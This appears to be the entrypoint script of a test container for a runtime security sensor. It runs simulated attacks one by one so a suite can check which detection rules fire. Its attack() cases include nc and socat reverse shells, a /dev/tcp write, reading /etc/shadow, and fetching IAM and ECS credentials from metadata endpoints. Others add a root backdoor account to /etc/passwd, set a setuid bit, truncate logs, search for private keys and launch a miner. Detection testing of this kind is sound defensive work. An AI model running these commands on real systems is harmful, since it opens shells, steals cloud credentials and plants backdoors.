#!/bin/sh
# attack.sh: the attack application's ENTRYPOINT. It performs, in order, the
# attacks its arguments name (the list is in attack() below;
# tests/e2e/attacks/expect says which rules each one must set off).
#
# Before each attack it runs `/bin/true attack-begin NAME`: the sensor
# reports that exec as a Process Activity Launch, and the suite gives the
# Findings that follow it to attack NAME. Then, on stdout:
#   attack NAME | LINE    each line the attack printed (stdout and stderr)
#   attack NAME rc=N      its exit status, as a shell script sees it
# Programs are named by absolute path: busybox's shell runs an applet named
# without one inside itself, or re-executes /proc/self/exe, and either way
# the name the rules look for would never be executed.

attack() {
	case $1 in
	shadow)		/bin/cat /etc/shadow > /dev/null ;;
	nc-exec)	/bin/nc 127.0.0.1 1 -e /bin/sh ;;
	# A listener on 127.0.0.1:2222 accepts and hangs up: nc puts the
	# socket on the shell's stdin and stdout, the shell reads EOF, exits.
	revshell)	/bin/nc 127.0.0.1 2222 -e /bin/sh ;;
	socat-exec)	/usr/local/bin/socat TCP:127.0.0.1:1 EXEC:/bin/sh ;;
	nmap)		/usr/local/bin/nmap -sT -p 1-1024 127.0.0.1 ;;
	dev-tcp)	/bin/sh -c 'echo hello > /dev/tcp/127.0.0.1/4242' ;;
	dropped)	/bin/cp /bin/busybox /srv/drop/true &&
			/bin/chmod 0755 /srv/drop/true && /srv/drop/true ;;
	tmp-exec)	/tmp/true ;;
	bin-write)	/bin/cp /bin/busybox /usr/local/bin/backdoor ;;
	setuid-chmod)	: > /srv/drop/suid && /bin/chmod 4755 /srv/drop/suid ;;
	miner-bin)	/usr/local/bin/xmrig --donate-level=1 ;;
	stratum)	/usr/local/bin/stub -o stratum+tcp://127.0.0.1:3333 -u wallet ;;
	miner-port)	/bin/wget -q -O - http://127.0.0.1:3333/ ;;
	imds)		/bin/wget -q -O - \
				http://169.254.169.254/latest/meta-data/iam/security-credentials/ ;;
	# The ECS task role's credentials, as every Fargate task has them.
	ecs-creds)	/bin/wget -q -O - http://169.254.170.2/v2/credentials/e2e ;;
	pkg-mgr)	/usr/local/bin/apt-get install -y nmap ;;
	unshare)	/bin/unshare -n /bin/true ;;
	nsenter)	/bin/nsenter -t $$ -n /bin/true ;;
	write-etc)	echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd ;;
	log-trunc)	: > /var/log/app.log ;;
	cred-search)	/bin/grep -rl 'BEGIN RSA PRIVATE KEY' /srv/app ;;
	*)		return 255 ;;
	esac
}

# Every name first: a typo in the list runs nothing (no half a run).
for name in "$@"; do
	case $name in
	shadow | nc-exec | revshell | socat-exec | nmap | dev-tcp | dropped | \
	tmp-exec | bin-write | setuid-chmod | miner-bin | stratum | miner-port | \
	imds | ecs-creds | pkg-mgr | unshare | nsenter | write-etc | log-trunc | \
	cred-search) ;;
	*)
		echo "attack.sh: unknown attack \"$name\": see the list in attack.sh" >&2
		exit 2 ;;
	esac
done

for name in "$@"; do
	/bin/true attack-begin "$name"
	attack "$name" > "/srv/out/$name" 2>&1
	rc=$?
	while IFS= read -r line; do
		echo "attack $name | $line"
	done < "/srv/out/$name"
	echo "attack $name rc=$rc"
done
/bin/true attack-end
echo "attack.sh: done"
